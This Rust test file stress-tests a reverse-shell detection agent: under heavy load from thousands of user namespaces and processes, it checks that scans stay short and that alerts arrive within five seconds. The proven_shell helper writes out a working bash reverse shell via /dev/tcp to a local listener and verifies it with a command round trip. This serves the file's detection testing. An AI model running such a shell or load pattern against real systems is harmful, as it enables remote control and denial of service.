//! Bounded under hostile load (its own test binary, named to run last: cargo runs test binaries
//! one after another, so the namespaces and processes made here, and the kernel's cleanup after
//! them, never slow another test's agent).
//!
//! A local unprivileged user makes 2000 network namespaces (`unshare(CLONE_NEWUSER |
//! CLONE_NEWNET)`, as `unshare -rn` does). The agent runs as the service does: its own user, only
//! CAP_SYS_PTRACE and CAP_DAC_READ_SEARCH, so every foreign namespace is read from /proc text at a
//! kernel cost of milliseconds each. Asserted: no scan comes near the watchdog; the agent ends
//! up reading only the namespaces that may have changed, and says what it reused and deferred;
//! a reverse shell on the host, one in a namespace the user makes now and one in a namespace
//! made before (entered later) are each proven by a command round trip and alerted within 5 s.
//! The same for 5000 processes of the user whose stdin is one pipe.

#[allow(dead_code)]
#[path = "util.rs"]
mod util;

use serde_json::Value;
use std::io::{BufRead, BufReader, Read};
use std::process::{Child, Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};
use util::{KillOnDrop, PRELUDE, ScratchDir, prerequisites};

const AGENT_UID: u32 = 64_011;
const USER_UID: u32 = 64_012;
const NAMESPACES: usize = 2000;
/// The packaged unit's WatchdogSec.
const WATCHDOG: Duration = Duration::from_secs(30);
const ALERT_WITHIN: Duration = Duration::from_secs(5);
/// The system's Python, which other users can run (root's PATH may lead to a private one).
const PYTHON: &str = "/usr/bin/python3";

/// The user's namespaces: one process forks `count` children that each unshare a user and a
/// network namespace and wait; they die with it.
fn namespaces_of_a_user(count: usize) -> (KillOnDrop, Vec<i32>) {
    let program = format!(
        "{PRELUDE}
CLONE_NEWUSER, CLONE_NEWNET = 0x10000000, 0x40000000
children = []
for _ in range({count}):
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        die_with_parent()
        if libc.unshare(CLONE_NEWUSER | CLONE_NEWNET) != 0:
            os._exit(1)
        os.write(w, b'x')
        signal.pause()
        os._exit(0)
    os.close(w)
    os.read(r, 1)
    os.close(r)
    children.append(pid)
print(json.dumps(children), flush=True)
sys.stdin.read()
"
    );
    let (child, line) = first_line(
        Command::new("setpriv")
            .args([format!("--reuid={USER_UID}"), format!("--regid={USER_UID}")])
            .args(["--clear-groups", "--inh-caps=-all", PYTHON, "-c", &program]),
    );
    let pids: Vec<i32> = serde_json::from_str(&line).expect("the namespaces' pids");
    assert_eq!(pids.len(), count);
    (KillOnDrop::new(child), pids)
}

/// The agent as the unit runs it, its events collected as they come.
struct Agent {
    child: KillOnDrop,
    events: Arc<Mutex<Vec<Value>>>,
    _state: ScratchDir,
}

impl Agent {
    fn start() -> Agent {
        let state = ScratchDir::new("hostile-state");
        std::os::unix::fs::chown(&state.path, Some(AGENT_UID), Some(AGENT_UID)).unwrap();
        let caps = "+sys_ptrace,+dac_read_search";
        let mut child = Command::new("setpriv")
            .args([format!("--reuid={AGENT_UID}"), format!("--regid={AGENT_UID}")])
            .args(["--clear-groups", &format!("--inh-caps=-all,{caps}")])
            .arg(format!("--ambient-caps={caps}"))
            .arg(env!("CARGO_BIN_EXE_sockwatch"))
            .args(["run", "--interval", "1s", "--heartbeat", "1s", "--no-baseline", "--state-dir"])
            .arg(&state.path)
            .env("WATCHDOG_USEC", WATCHDOG.as_micros().to_string())
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let stdout = child.stdout.take().unwrap();
        let events = Arc::new(Mutex::new(Vec::new()));
        let collected = events.clone();
        std::thread::spawn(move || {
            for line in BufReader::new(stdout).lines().map_while(Result::ok) {
                if let Ok(event) = serde_json::from_str::<Value>(&line) {
                    collected.lock().unwrap().push(event);
                }
            }
        });
        Agent { child: KillOnDrop::new(child), events, _state: state }
    }

    fn wait_for(&self, what: &str, within: Duration, found: impl Fn(&Value) -> bool) -> Value {
        let deadline = Instant::now() + within;
        loop {
            if let Some(e) = self.events.lock().unwrap().iter().find(|e| found(e)) {
                return e.clone();
            }
            assert!(Instant::now() < deadline, "no {what} within {within:?}");
            std::thread::sleep(Duration::from_millis(50));
        }
    }

    fn heartbeats(&self) -> Vec<Value> {
        let events = self.events.lock().unwrap();
        events.iter().filter(|e| e["event"]["action"] == "heartbeat").cloned().collect()
    }
}

/// A reverse shell proven to work: a listener and `bash -i` connected to it, run by `wrapper`
/// (inside a namespace, as a user), answering `echo` with a token. Returns the process that holds
/// them and the shell's pid.
fn proven_shell(wrapper: &[&str]) -> (Child, i64) {
    let program = format!(
        "{PRELUDE}
die_with_parent()
l = socket.socket(); l.settimeout(10); l.bind(('127.0.0.1', 0)); l.listen()
port = l.getsockname()[1]
shell = subprocess.Popen(['bash', '-c', 'exec bash -i >& /dev/tcp/127.0.0.1/%d 0>&1' % port],
                         stdin=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
c, _ = l.accept()
c.settimeout(10)
c.sendall(b'echo round-$((20+22))-trip\\n')
seen = b''
while b'round-42-trip' not in seen:
    seen += c.recv(4096)
print(json.dumps({{'shell': shell.pid}}), flush=True)
sys.stdin.read()
"
    )
    .replace("import ctypes,", "import subprocess, ctypes,");
    let (program_name, args) = wrapper.split_first().unwrap();
    // A new namespace's loopback starts down (bringing it up is the namespace owner's right; on
    // the host the user may not, and need not).
    let up = format!("ip link set lo up 2>/dev/null; exec {PYTHON} -c \"$0\"");
    let (child, line) =
        first_line(Command::new(program_name).args(args).args(["sh", "-c", &up, &program]));
    let facts: Value = serde_json::from_str(&line)
        .unwrap_or_else(|_| panic!("no round trip through {wrapper:?}: {line:?}"));
    (child, facts["shell"].as_i64().unwrap())
}

/// Starts `command` with its stdin and stdout piped, and reads the first line it prints.
fn first_line(command: &mut Command) -> (Child, String) {
    let mut child = command.stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
    let mut line = String::new();
    BufReader::new(child.stdout.take().unwrap()).read_line(&mut line).unwrap();
    (child, line)
}

fn stop(mut child: Child) {
    drop(child.stdin.take());
    let _ = child.kill();
    let _ = child.wait();
    let mut rest = String::new();
    if let Some(mut out) = child.stdout.take() {
        let _ = out.read_to_string(&mut rest);
    }
}

/// One hostile state at a time: each test's load would skew the other's bounds.
static ONE_AT_A_TIME: Mutex<()> = Mutex::new(());

/// The longest scan the heartbeats report.
fn longest_scan(agent: &Agent) -> Duration {
    let beats = agent.heartbeats();
    let longest = beats.iter().filter_map(|b| b["sockwatch"]["last_scan_duration_ms"].as_u64());
    Duration::from_millis(longest.max().unwrap_or(0))
}

#[test]
fn five_thousand_processes_reading_one_pipe_neither_blind_the_agent_nor_stretch_its_scans() {
    if !prerequisites(&["setpriv", "bash", "sleep", PYTHON]) {
        return;
    }
    let _alone = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
    // One pipe with 5000 holders: the relay walk's widest fan-in.
    // Each sleep dies with the shell that started it, however the test ends.
    let script = "exec 3< <(setpriv --pdeathsig KILL sleep 600); \
                  for i in $(seq 5000); do setpriv --pdeathsig KILL sleep 600 <&3 & done; \
                  echo ready; read -r _";
    let (user, line) = first_line(
        Command::new("setpriv")
            .args([format!("--reuid={USER_UID}"), format!("--regid={USER_UID}")])
            .args(["--clear-groups", "--inh-caps=-all", "bash", "-c", script]),
    );
    assert_eq!(line.trim(), "ready");
    let user = KillOnDrop::new(user);
    let agent = Agent::start();
    agent.wait_for("5000 more processes seen", Duration::from_secs(30), |e| {
        e["event"]["action"] == "heartbeat"
            && e["sockwatch"]["coverage"]["processes_seen"].as_u64() > Some(5000)
    });
    let setpriv = format!("setpriv --reuid={USER_UID} --regid={USER_UID} --clear-groups");
    let (holder, shell) = proven_shell(&setpriv.split(' ').collect::<Vec<_>>());
    agent.wait_for("the alert for the shell", ALERT_WITHIN, |e| {
        e["event"]["action"] == "incident_opened" && e["process"]["pid"] == shell
    });
    stop(holder);
    let longest = longest_scan(&agent);
    assert!(longest < WATCHDOG / 2, "a scan took {longest:?}");
    eprintln!("5000 processes on one pipe: longest scan {longest:?}");
    drop(user);
}

#[test]
fn two_thousand_namespaces_of_a_user_neither_blind_the_agent_nor_stretch_its_scans() {
    if !prerequisites(&["setpriv", "nsenter", PYTHON, "bash"]) {
        return;
    }
    let _alone = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
    let (mut user, pids) = namespaces_of_a_user(NAMESPACES);
    let agent = Agent::start();
    agent.wait_for("agent_started", Duration::from_secs(10), |e| {
        e["event"]["action"] == "agent_started"
    });

    // Every namespace read once, round-robin within each scan's budget; then what moves, and the
    // rest in turn within a tenth of the interval.
    let settled = agent.wait_for("every namespace read", Duration::from_secs(90), |e| {
        let c = &e["sockwatch"]["coverage"];
        e["event"]["action"] == "heartbeat"
            && c["namespaces_seen"].as_u64() > Some(NAMESPACES as u64)
            && c["namespaces_deferred"] == 0
            && c["namespaces_reused"].as_u64() >= Some(NAMESPACES as u64 * 9 / 10)
    });
    let coverage = &settled["sockwatch"]["coverage"];
    assert_eq!(coverage["namespaces_sock_diag"], 1, "only its own, with two capabilities");

    // A shell on the host, one in a namespace the user makes now, one in a namespace made
    // before: each alerted within 5 s of answering.
    let unshare =
        format!("setpriv --reuid={USER_UID} --regid={USER_UID} --clear-groups unshare -rn");
    let old_namespace = format!("nsenter --target={} --net", pids[NAMESPACES / 2]);
    for (place, wrapper) in [
        ("the host", format!("setpriv --reuid={USER_UID} --regid={USER_UID} --clear-groups")),
        ("a new namespace", unshare),
        ("a namespace made before", old_namespace),
    ] {
        let wrapper: Vec<&str> = wrapper.split(' ').collect();
        let (holder, shell) = proven_shell(&wrapper);
        let answered = Instant::now();
        agent.wait_for(&format!("the alert for the shell in {place}"), ALERT_WITHIN, |e| {
            e["event"]["action"] == "incident_opened" && e["process"]["pid"] == shell
        });
        eprintln!("{place}: alerted {:?} after the round trip", answered.elapsed());
        stop(holder);
    }

    let longest = longest_scan(&agent);
    assert!(longest < WATCHDOG / 2, "a scan took {longest:?}");
    let beats = agent.heartbeats();
    let deferred: u64 = beats
        .iter()
        .filter_map(|b| b["sockwatch"]["coverage"]["namespaces_deferred"].as_u64())
        .sum();
    assert!(deferred > 0, "the first reads went round-robin, and were counted");
    eprintln!("2000 namespaces: longest scan {longest:?} over {} heartbeats", beats.len());

    drop(user.child().stdin.take());
    let pid = rustix::process::Pid::from_raw(agent.child.0.as_ref().unwrap().id() as i32);
    rustix::process::kill_process(pid.unwrap(), rustix::process::Signal::TERM).unwrap();
}
